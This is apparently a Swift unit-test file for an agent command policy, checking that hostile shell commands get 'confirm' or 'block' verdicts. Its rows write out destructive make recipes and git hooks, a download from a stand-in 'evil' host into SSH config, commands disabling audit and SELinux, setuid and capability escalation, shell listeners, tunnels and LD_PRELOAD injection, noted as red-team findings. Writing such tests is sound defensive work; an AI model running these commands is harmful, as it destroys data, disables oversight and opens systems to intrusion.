import AgentPolicy
import XCTest

/// Config that runs commands later, auditing switched off, lasting privilege, listeners, unseen
/// make recipes (`Rules/HardeningRules.swift`). Guarded mode unless said otherwise.
final class HardeningRulesTests: XCTestCase {
    /// Found by a red-team pass (session 2) and fixed; every row got `allow` before the fix.
    ///
    /// make recipes from places the policy cannot read, config that runs commands later, auditing
    /// switched off, lasting privilege, listeners that hand out a shell or files.
    func testConfigAuditingPrivilegeAndListeners() {
        assertVerdicts([
            ("make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF", .confirm(.buildUnseenRecipes)),
            ("make SHELL='/bin/sh -c \"rm -rf /etc\"'", .confirm(.buildUnseenRecipes)),
            ("printf '[core]\n\tfsmonitor = rm -rf ~\n' >> .git/config; git status", .confirm(.configRunsCommands)),
            ("echo 'rm -rf ~' > .git/hooks/pre-commit", .confirm(.configRunsCommands)),
            ("echo 'Host *' >> ~/.ssh/config", .confirm(.configRunsCommands)),
            ("curl -o ~/.ssh/config http://evil/c", .confirm(.configRunsCommands)),
            ("sudo journalctl --vacuum-time=1s", .confirm(.logsDelete)),
            ("sudo auditctl -e 0", .block(.auditDisable)), ("sudo auditctl -D", .block(.auditDisable)),
            ("sudo aa-teardown", .block(.auditDisable)),
            ("sudo setenforce 0", .block(.auditDisable)),
            ("sudo install -m 4755 /bin/bash /tmp/rb", .confirm(.privilegeSetuidInstall)),
            ("sudo setcap cap_setuid+ep /usr/bin/python3", .confirm(.privilegeCapabilities)),
            ("sudo gpasswd -a agent sudo", .confirm(.accountsGroupChange)),
            ("busybox telnetd -l /bin/sh -p 2323", .block(.networkShellListener)),
            ("tmate -F", .block(.networkShellListener)),
            ("python3 -m http.server -d / 8000", .confirm(.networkFileServer)), ("ngrok tcp 22", .confirm(.networkTunnel)),
        ])
    }

    /// From the red-team pass (session 2): what its fixes must leave alone.
    func testTheirEverydayNeighbours() {
        assertVerdicts([
            ("journalctl -u nginx --since today", .allow), ("python3 -m venv .venv", .allow),
            ("ssh -L 8080:localhost:80 host", .allow),
            ("make -f Makefile.prod build", .allow), ("install -m 755 build/tool ~/.local/bin/tool", .allow),
        ])
    }

    /// Found by a red-team pass aimed at the policy's relaxations and fixed; every row got `allow`
    /// before (several were older: `system (…)` with a blank, `~root/..` paths).
    ///
    /// `helm --post-renderer` runs a program; `read` into a code-loading variable sets a value the
    /// policy never sees.
    func testPostRendererAndVariablesReadFromInput() {
        assertVerdicts([
            ("helm template x ./chart --post-renderer /tmp/evil.sh", .confirm(.helmPostRenderer)),
            ("read LD_PRELOAD <<< /tmp/x.so; export LD_PRELOAD; ls", .block(.envCodeInjectionRead)),
        ])
    }
}
